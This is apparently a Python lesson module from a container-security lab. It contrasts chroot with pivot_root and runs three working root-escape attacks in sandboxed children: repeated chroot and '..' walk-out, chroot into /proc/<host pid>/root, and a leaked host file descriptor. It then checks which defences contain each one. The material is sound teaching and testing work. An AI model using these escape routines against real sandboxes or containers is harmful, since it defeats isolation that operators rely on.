"""Lesson 05: chroot vs pivot_root, and the ways out of a root that is only changed.

chroot(2) changes one thing: where "/" resolves for this process. The old root is still
mounted, the working directory may lie outside the new root, and root may call chroot
again: ``mkdir x; chroot x; cd ..`` (many times) ``; chroot .`` walks out. pivot_root(2)
changes the root *mount* of the whole mount namespace; once the old root is unmounted
there is nothing left to walk back to. Two more doors stay open unless closed too:

* without a PID namespace, a freshly mounted /proc still lists the host's processes, and
  ``/proc/<host pid>/root`` is that process's root directory: the host's;
* a file descriptor opened on the host before the switch still points at the host.

:func:`attempt` runs one attack against one kind of root in a throwaway child and says
whether its "/" is afterwards the host's root directory again (the same device and inode).
"""
from __future__ import annotations

import os
from dataclasses import dataclass

from . import kernel, lab, sandbox

ATTACKS = ("chroot-dotdot", "proc-host-root", "leaked-fd")


@dataclass(frozen=True)
class Attempt:
    root: str            # "chroot" or "pivot_root"
    attack: str          # one of ATTACKS
    pid_ns: bool
    close_fds: bool
    escaped: bool
    saw: list[str]       # the top of "/" after the attack

    def __str__(self) -> str:
        defences = [d for d, on in (("PID namespace", self.pid_ns), ("fds closed", self.close_fds)) if on]
        verdict = "ESCAPED to the host" if self.escaped else "contained"
        return f"{self.root:<10} + {', '.join(defences) or 'no other defence':<28} vs {self.attack:<14}: {verdict}"


def attempt(rootfs: str | os.PathLike, root: str, attack: str, pid_ns: bool = False,
            close_fds: bool = False, enter=None) -> Attempt:
    """Enter ``rootfs`` with ``root`` ("chroot" or "pivot_root"), then try ``attack``.
    ``enter``: a function ``enter(rootfs)`` that changes the root itself (root is then "yours")."""
    if attack not in ATTACKS or (root not in ("chroot", "pivot_root") and enter is None):
        raise ValueError(f"root is chroot or pivot_root, attack one of {ATTACKS}")
    rootfs = lab.inside(rootfs)
    escaped, saw = sandbox.run(_inside, str(rootfs), root, attack, _identity("/"), close_fds, os.getpid(), enter,
                               namespaces=("mnt", "pid") if pid_ns else ("mnt",))
    return Attempt(root, attack, pid_ns, close_fds, escaped, saw)


def _identity(path: str) -> tuple[int, int]:
    """A directory's identity: its device and inode number (stat(2)). The host's root has the
    same identity whichever way it is reached, a leaked fd or /proc/PID/root."""
    st = os.stat(path)
    return st.st_dev, st.st_ino


def pivot_into(rootfs: str) -> None:
    """Make ``rootfs`` the root of this mount namespace and let go of the old one
    (pivot_root(2), "NOTES"): bind it onto itself (new_root must be a mount point),
    pivot_root with put_old inside it, chdir("/"), then detach the old root."""
    kernel.mount(rootfs, rootfs, None, kernel.MS_BIND | kernel.MS_REC)
    old = os.path.join(rootfs, ".old-root")
    os.makedirs(old, exist_ok=True)
    kernel.pivot_root(rootfs, old)
    os.chdir("/")
    kernel.umount2("/.old-root", kernel.MNT_DETACH)
    os.rmdir("/.old-root")


def _inside(rootfs: str, root: str, attack: str, host_root: tuple, close_fds: bool, host_pid: int, enter=None):
    """In the child: change the root, then attack; escaped if "/" is the host's root again."""
    leaked = os.open("/", os.O_RDONLY | os.O_DIRECTORY)      # an fd a careless runtime passes on
    if enter is not None:
        enter(rootfs)
        if not os.path.exists("/bin/sh") or _identity("/") == host_root:
            return True, sorted(os.listdir("/"))[:12]            # not inside the rootfs at all
    elif root == "chroot":
        os.chroot(rootfs)
        os.chdir("/")
    else:
        pivot_into(rootfs)
    os.makedirs("/proc", exist_ok=True)
    kernel.mount("proc", "/proc", "proc", kernel.MS_NOSUID | kernel.MS_NODEV | kernel.MS_NOEXEC)
    if close_fds:
        sandbox.close_fds()
        leaked = None
    assert _identity("/") != host_root, "the root must have changed"
    try:
        if attack == "chroot-dotdot":
            os.makedirs("/.escape", exist_ok=True)
            os.chroot("/.escape")           # the cwd (/) is now outside the root
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
        elif attack == "proc-host-root":     # the process that started us lives on the host
            os.chroot(f"/proc/{host_pid}/root")
        elif leaked is not None:
            os.fchdir(leaked)
            os.chroot(".")
    except OSError:
        pass
    return _identity("/") == host_root, sorted(os.listdir("/"))[:12]


def every_attempt(rootfs: str | os.PathLike) -> list[Attempt]:
    """Every attack against chroot, pivot_root alone, and pivot_root with both defences."""
    out = []
    for root, pid_ns, close_fds in (("chroot", False, False), ("pivot_root", False, False),
                                    ("pivot_root", True, False), ("pivot_root", False, True),
                                    ("pivot_root", True, True)):
        for attack in ATTACKS:
            out.append(attempt(rootfs, root, attack, pid_ns, close_fds))
    return out
